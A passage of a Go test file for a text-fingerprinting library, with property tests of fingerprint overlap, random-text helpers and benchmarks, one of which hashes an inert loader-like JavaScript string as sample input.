		t.Errorf("merge result = %v", a)
	}
	if a.Total() != 7 {
		t.Errorf("total = %d, want 7", a.Total())
	}
}

// Property: overlap is symmetric and within [0,1].
func TestOverlapProperties(t *testing.T) {
	f := func(x, y string) bool {
		a := Fingerprint(x, DefaultConfig())
		b := Fingerprint(y, DefaultConfig())
		o1, o2 := Overlap(a, b), Overlap(b, a)
		return o1 == o2 && o1 >= 0 && o1 <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func randomText(rng *rand.Rand, n int) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz(){};=+."
	var sb strings.Builder
	sb.Grow(n)
	for i := 0; i < n; i++ {
		sb.WriteByte(alphabet[rng.Intn(len(alphabet))])
	}
	return sb.String()
}

func mutate(rng *rand.Rand, s string, frac float64) string {
	b := []byte(s)
	for i := range b {
		if rng.Float64() < frac {
			b[i] = byte('A' + rng.Intn(26))
		}
	}
	return string(b)
}

func BenchmarkFingerprint(b *testing.B) {
	text := strings.Repeat("var payload = decode(buffer.split(delim)); eval(payload); ", 200)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Fingerprint(text, DefaultConfig())
	}
}

func BenchmarkOverlap(b *testing.B) {
	rng := rand.New(rand.NewSource(2))
	x := Fingerprint(randomText(rng, 10000), DefaultConfig())
	y := Fingerprint(randomText(rng, 10000), DefaultConfig())
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Overlap(x, y)
	}
}
